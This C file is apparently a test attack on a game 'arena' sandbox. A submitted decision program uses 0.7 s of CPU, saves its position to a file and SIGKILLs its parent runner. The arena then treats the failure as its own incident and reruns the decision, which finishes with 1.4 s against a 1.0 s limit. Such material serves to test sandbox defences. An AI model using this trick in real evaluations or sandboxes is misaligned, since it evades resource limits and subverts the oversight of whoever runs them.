/* Attack: get twice the decision's CPU time with no fault by killing arena's compiled runner.

A decision computes for 0.7 s of CPU, saves the deal it is for in ``half.txt`` and kills its parent (the
runner, which runs as the same user; the helper, PID 1 of the sandbox, ignores it). Arena calls a failed
runner its own incident and has the helper run the decision again: that run finds ``half.txt``, computes
0.7 s more and answers, so the decision had 1.4 s of CPU against a 1.0 s limit. Every decision completed
this way is noted in ``doubled.txt``. Answers 0. */
#include <signal.h>
#include <stdio.h>
#include <string.h>
#include <time.h>
#include <unistd.h>

static double cpu(void) {
    struct timespec now;
    clock_gettime(CLOCK_PROCESS_CPUTIME_ID, &now);
    return now.tv_sec + now.tv_nsec / 1e9;
}

static void spin(double seconds) {
    double start = cpu();
    while (cpu() - start < seconds) {
    }
}

static size_t slurp(const char *name, char *into, size_t size) {
    FILE *file = fopen(name, "r");
    if (!file) return 0;
    size_t got = fread(into, 1, size - 1, file);
    fclose(file);
    into[got] = 0;
    return got;
}

static void answer(void) {
    FILE *out = fopen("outputf.txt", "w");
    fputs("0\n", out);
    fclose(out);
}

int main(void) {
    static char deal[1 << 20], saved[1 << 20];
    slurp("deal.txt", deal, sizeof deal);
    int resumed = slurp("half.txt", saved, sizeof saved) && strcmp(saved, deal) == 0;
    if (resumed) {
        unlink("half.txt");
        spin(0.7);
        FILE *note = fopen("doubled.txt", "a");
        fprintf(note, "%.2f\n", 0.7 + cpu());
        fclose(note);
        answer();
    } else if (getppid() != 1) { /* the runner started it */
        spin(0.7);
        FILE *state = fopen("half.txt", "w");
        fputs(deal, state);
        fclose(state);
        kill(getppid(), SIGKILL);
        sleep(5);
    } else {
        answer();
    }
    return 0;
}
